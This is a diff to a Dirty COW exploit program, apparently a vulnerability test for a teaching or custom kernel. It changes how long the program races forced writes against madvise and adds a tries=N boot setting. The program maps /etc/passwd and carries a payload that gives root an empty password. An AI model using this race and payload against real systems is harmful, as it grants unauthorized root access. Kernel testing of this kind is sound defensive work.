@@ -23,7 +23,7 @@
 #define PATH "/etc/passwd"
 #define PGSIZE 4096
 #define MIN_TRIES 10000      /* forced writes, each with a madvise round between */
-#define TIMER_MSEC 3000      /* how long to race when only the timer opens the window */
+#define TIMER_MSEC 2000      /* how long to race when only the timer opens the window */
 
 static const char payload[] = "root::0:0:dirty cow was here:/root:/bin/sh\n";
 
@@ -32,7 +32,8 @@ static size_t file_size;
 static volatile char *map;         /* PROT_READ, MAP_PRIVATE view of the file */
 static volatile int stop;          /* the writer tells the madviser to finish */
 static volatile int rounds;        /* madvise rounds done so far */
-static unsigned int race_msec;     /* minimum race time (see timer_driven) */
+static unsigned int race_msec;     /* minimum race time (see read_cmdline) */
+static int min_tries = MIN_TRIES;  /* boot argument tries=N changes it */
 
 /* Read the whole (one-page) file into buf; returns its size. */
 static size_t read_file(char *buf) {
@@ -63,12 +64,13 @@ static int madviser(void *arg) {
 }
 
 /*
- * Is the race left to the timer? With gup_resched=K on the kernel command
- * line the kernel itself lets the madviser into retry K of every forced
- * write; without it only a timer tick at the right moment does, so we
- * race for a few seconds instead of a fixed number of tries.
+ * Settings from the kernel command line (/proc/cmdline). Is the race
+ * left to the timer? With gup_resched=K the kernel itself lets the
+ * madviser into retry K of every forced write; without it only a timer
+ * tick at the right moment does, so we race for a few seconds as well
+ * as a number of tries. tries=N sets that number.
  */
-static bool timer_driven(void) {
+static void read_cmdline(void) {
     static char cmdline[PGSIZE];
     int fd = open("/proc/cmdline", O_RDONLY);
     assert(fd >= 0);
@@ -76,12 +78,16 @@ static bool timer_driven(void) {
     assert(n >= 0);
     cmdline[n] = '\0';
     close(fd);
-    return strstr(cmdline, "gup_resched=") == NULL;
+    race_msec = strstr(cmdline, "gup_resched=") == NULL ? TIMER_MSEC : 0;
+    const char *tries = strstr(cmdline, "tries=");
+    if (tries != NULL && strtol(tries + 6, NULL, 10) > 0) {
+        min_tries = strtol(tries + 6, NULL, 10);
+    }
 }
 
-/* Enough racing: MIN_TRIES forced writes, and race_msec gone by. */
+/* Enough racing: min_tries forced writes, and race_msec gone by. */
 static bool raced_enough(int tries, unsigned int start) {
-    return tries >= MIN_TRIES && gettime_msec() - start >= race_msec;
+    return tries >= min_tries && gettime_msec() - start >= race_msec;
 }
 
 /*
@@ -132,7 +138,7 @@ int main(void) {
     assert(fd >= 0);
     map = mmap(NULL, file_size, PROT_READ, MAP_PRIVATE, fd, 0);
     assert(map != MAP_FAILED);
-    race_msec = timer_driven() ? TIMER_MSEC : 0;
+    read_cmdline();
     cprintf("dirtycow: racing forced writes against madvise(MADV_DONTNEED) on %s (%s)\n", PATH,
             race_msec > 0 ? "timer-driven" : "forced reschedule");
 
